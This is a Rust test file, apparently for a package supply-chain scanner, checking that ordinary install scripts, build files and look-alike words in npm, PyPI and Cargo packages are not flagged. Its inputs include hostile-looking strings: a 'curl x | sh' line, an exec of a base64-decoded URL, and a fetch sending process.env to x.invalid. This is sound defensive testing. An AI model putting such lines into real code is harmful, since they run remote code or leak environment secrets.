//! Honest versions like those the incidents resemble.

use super::*;

#[test]
fn scripts_and_build_files_that_have_been_there_for_years_are_not_held() {
    let esbuild =
        "{\n\"name\": \"esbuild\", \"scripts\": { \"postinstall\": \"node install.js\" }\n}\n";
    let installer = "const https = require('https');\nconst cp = require('child_process');\n\
                     https.get(url, save);\nrequire('fs').chmodSync(p, 0o755);\ncp.execFileSync(p, ['--version']);\n";
    let bcrypt = "{\n\"name\": \"bcrypt\", \"scripts\": { \"install\": \"node-gyp-build\" }\n}\n";
    let gyp = "{ 'targets': [{ 'include_dirs': [\"<!(node -p \\\"require('node-addon-api').include_dir\\\")\"] }] }\n";
    for (id, before, after) in [
        (
            "N08",
            &[("package.json", esbuild), ("install.js", installer)][..],
            &[
                ("package.json", esbuild),
                ("install.js", installer),
                ("lib/a.js", "1;\n"),
            ][..],
        ),
        (
            "N08",
            &[("package.json", bcrypt), ("binding.gyp", gyp)],
            &[("package.json", bcrypt), ("binding.gyp", gyp)],
        ),
    ] {
        is_allowed(id, &judge_change("npm", before, after));
    }
}

#[test]
fn words_of_the_language_that_sound_like_it_are_not_held() {
    let javascript = "// child_process.exec(atob('aHR0cHM6Ly94LmludmFsaWQv'))\nconst m = /exec/.exec(text);\n\
                      const doc = 'eval(process.env)';\nfetch(`/api/${id}`);\nif (process.env.NODE_ENV) run({ env: process.env });\n";
    let python = "\"\"\"os.system('curl x | sh')\"\"\"\nimport re\nP = re.compile('a')\nmodel.eval()\ncursor.exec('x')\n";
    is_allowed(
        "words",
        &judge_change("npm", &[], &[("index.js", javascript)]),
    );
    is_allowed("words", &judge_change("pypi", &[], &[("x.py", python)]));
    is_allowed("words", &judge_new("npm", &[("index.js", javascript)]));
}

#[test]
fn families_of_names_and_their_usual_build_scripts_are_not_held() {
    let sys = "fn main() {\n    let out = std::process::Command::new(\"pkg-config\").arg(\"--libs\").output();\n\
               \x20   println!(\"cargo:rustc-link-lib=z\");\n}\n";
    let manifest = "[package]\nname = \"z-sys\"\nlinks = \"z\"\n";
    is_allowed(
        "N09",
        &judge_change(
            "cargo",
            &[("Cargo.toml", manifest)],
            &[("Cargo.toml", manifest), ("build.rs", sys)],
        ),
    );
    is_allowed(
        "N09",
        &judge_new("cargo", &[("Cargo.toml", manifest), ("build.rs", sys)]),
    );
    let derive = "[package]\nname = \"z-derive\"\n\n[lib]\nproc-macro = true\n";
    let source = "#[proc_macro]\npub fn a(i: TokenStream) -> TokenStream { i }\n";
    is_allowed(
        "N09",
        &judge_new("cargo", &[("Cargo.toml", derive), ("src/lib.rs", source)]),
    );
    is_allowed(
        "N09",
        &judge_new("pypi", &[("pytest_x/__init__.py", "import pytest\n")]),
    );
}

#[test]
fn tests_and_examples_do_not_count() {
    let steals = "fetch('https://x.invalid/', { body: JSON.stringify(process.env) });\n";
    is_allowed(
        "tests",
        &judge_change("npm", &[], &[("test/steal.js", steals)]),
    );
    is_allowed("tests", &judge_new("npm", &[("examples/steal.js", steals)]));
}
